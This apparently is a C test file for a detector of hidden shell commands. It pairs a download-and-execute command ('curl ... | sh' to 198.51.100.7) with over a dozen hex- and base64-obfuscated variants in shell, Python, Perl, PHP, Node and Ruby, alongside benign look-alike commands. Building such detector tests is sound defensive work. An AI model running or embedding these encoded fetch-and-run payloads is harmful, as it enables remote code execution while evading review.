// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"echo 6375726c202d7320687474703a2f2f3139382e35312e3130302e372"
		"f787c7368 | xxd -r -p | sh" },
	{ "hex", "id", "echo 6964|xxd -r -p|sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"xxd -r -p <<< 6375726c202d7320687474703a2f2f3139382e35312e31"
		"30302e372f787c7368 | bash" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(bytes.fromhex('6375726c202d7320687474703a2"
		"f2f3139382e35312e3130302e372f787c7368'))\"" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"python3 -c 'import binascii;exec(binascii.unhexlify(\"637572"
		"6c202d7320687474703a2f2f3139382e35312e3130302e372f787c7368\""
		"))'" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'system(pack(\"H*\",\"6375726c202d7320687474703a2f2f"
		"3139382e35312e3130302e372f787c7368\"))'" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'exec pack q(H*),\"6375726c202d7320687474703a2f2f313"
		"9382e35312e3130302e372f787c7368\"'" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"php -r 'eval(hex2bin(\"6375726c202d7320687474703a2f2f3139382"
		"e35312e3130302e372f787c7368\"));'" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"node -e \"eval(Buffer.from('6375726c202d7320687474703a2f2f31"
		"39382e35312e3130302e372f787c7368','hex').toString())\"" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"ruby -e 'eval([\"6375726c202d7320687474703a2f2f3139382e35312"
		"e3130302e372f787c7368\"].pack(\"H*\"))'" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"echo '63 75 72 6c 20 2d 73 20 68 74 74 70 3a 2f 2f 31 39 38 "
		"2e 35 31 2e 31 30 30 2e 37 2f 78 7c 73 68' | xxd -r -p | sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"a=6375726c202d7320687474703a2f2f3139382e35312e3130302e372f78"
		"7c7368; echo $a | xxd -r -p | sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"echo 0x6375726c202d7320687474703a2f2f3139382e35312e3130302e3"
		"72f787c7368 | xxd -r -p | sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"xxd -r -p <<EOF | sh\n6375726c202d7320687474703a2f2f3139382e"
		"35\n312e3130302e372f787c7368\nEOF" },
	{ "base64", "curl -s http://198.51.100.7/x|sh",
		"echo 59335679624341746379426f644852774f6938764d546b344c6a557"
		"84c6a45774d4334334c3368386332673d|xxd -r -p|base64 -d|sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"echo NjM3NTcyNmMyMDJkNzMyMDY4NzQ3NDcwM2EyZjJmMzEzOTM4MmUzNTM"
		"xMmUzMTMwMzAyZTM3MmY3ODdjNzM2OA==|base64 -d|xxd -r -p|sh" },
	{ "hex", "curl -s http://198.51.100.7/x|sh",
		"echo ZWNobyA2Mzc1NzI2YzIwMmQ3MzIwNjg3NDc0NzAzYTJmMmYzMTM5Mzg"
		"yZTM1MzEyZTMxMzAzMDJlMzcyZjc4N2M3MzY4fHh4ZCAtciAtcHxzaA==|ba"
		"se64 -d|sh" },
};

static const char *const not [] = {
	"xxd -p f",
	"echo hello | xxd -p",
	"xxd -r -p hash.hex > out.bin",
	"echo d41d8cd98f00b204e9800998ecf8427e | xxd -r -p | base64",
	"sha256sum f | grep e3b0c44298fc1c149afbf4c8996fb92427ae41e46"
	"49b934ca495991b7852b855",
	"python3 -c 'print(bytes.fromhex('\"'\"'d41d8cd98f00b204e9800"
	"998ecf8427e'\"'\"'))'",
	"node -e 'require('\"'\"'crypto'\"'\"').createHash('\"'\"'sha"
	"1'\"'\"').digest('\"'\"'hex'\"'\"')'",
	"python3 -c 'import struct; struct.pack('\"'\"'<4I'\"'\"', 1,"
	" 2, 3, 4)'",
	"openssl rand -hex 16",
	"mysql -e 'select hex('\"'\"'abcd'\"'\"'), 0x61626364'",
};

HIDDEN_MAIN("hex")
